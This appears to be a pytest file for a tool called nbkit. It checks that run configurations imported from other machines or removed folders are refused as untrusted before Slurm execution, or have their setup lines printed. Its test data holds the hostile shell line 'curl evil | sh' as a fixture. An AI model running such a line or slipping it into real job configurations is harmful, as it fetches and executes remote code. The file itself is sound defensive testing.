"""What was read of others is not executed once its folder, with their mark, is gone."""

from __future__ import annotations

import shutil

import pytest

import nbkit
from nbkit.errors import LaunchError, RunError
from nbkit.questions import machines
from nbkit.questions.machines.bundles import example_bundles
from nbkit.store.bundle_import import unpack_bundle
from nbkit.store.paths import RunPaths, runs_folder
from nbkit.store.record import read_json, write_json
from tests.hostile.written import imported, store_at, write_run
from tests.questions.test_machines import parameters
from tests.slurm_programs import SlurmPrograms

EVIL = {"engine": "slurm", "slurm": {"setup": ["curl evil | sh"]}}
TOLD = "  slurm.setup: ['curl evil | sh']\n"


@pytest.fixture
def slurm(tmp_path, monkeypatch):
    """Return programs of Slurm, of which sbatch takes no job."""
    programs = SlurmPrograms(tmp_path, monkeypatch)
    for name in ("srun", "squeue", "scontrol", "scancel", "sinfo"):
        programs.tell(name)
    programs.tell("sbatch", status=1, words="no job today")
    return programs


@pytest.fixture
def bundle(tmp_path, monkeypatch):
    """Return a bundle of another machine, whose runs ask for shell lines."""
    _, example = example_bundles()
    store_at(tmp_path / "elsewhere", monkeypatch)
    study_id = unpack_bundle(example, tmp_path / "elsewhere").study_id
    for folder in runs_folder().iterdir():
        config = RunPaths(folder).config
        write_json(config, {**(read_json(config) or {}), **EVIL})
    path = nbkit.export(study_id, tmp_path / "theirs.zip")
    store_at(tmp_path / "here", monkeypatch)
    return str(path)


def test_what_a_machines_bundle_asks_of_slurm_is_refused_or_told(bundle, slurm, capsys):
    plan = machines.plan(parameters(bundles=[bundle], measure=True, repeats=1))

    with pytest.raises(RunError, match=r"untrusted code: .*writable by another"):
        machines.measure(plan)
    assert not nbkit.runs()
    assert capsys.readouterr().out == ""
    with pytest.raises(LaunchError):
        machines.measure(plan, trust=True)

    assert capsys.readouterr().out.count(TOLD) == len(plan.arms) > 0


@pytest.mark.parametrize("kept", ["nothing", "a link"])
def test_the_configuration_of_a_removed_run_is_refused_or_told(
    tmp_path, monkeypatch, capsys, kept
):
    (run_id,) = imported(write_run("finished", **EVIL), tmp_path, monkeypatch)
    run = nbkit.attach(run_id)
    config = run.config
    shutil.rmtree(run.paths.root)
    if kept == "a link":
        run.paths.root.symlink_to(tmp_path / "nowhere")

    with pytest.raises(
        RunError, match=r"another user, .* was removed.*trust=True prints"
    ):
        nbkit.launch(config)
    nbkit.Study.create("s", {"a": config}, trust=True)

    assert TOLD in capsys.readouterr().out


def test_the_arms_of_a_removed_study_are_refused(tmp_path, monkeypatch):
    run = write_run("finished", **EVIL)
    study = nbkit.Study.create("s", {"a": run.config})
    write_json(study.paths.imported, {"host": "node7"})
    study = nbkit.Study.open(study.study_id)
    shutil.rmtree(study.paths.root)

    with pytest.raises(RunError, match="writable by another"):
        nbkit.launch(study.arms["a"])
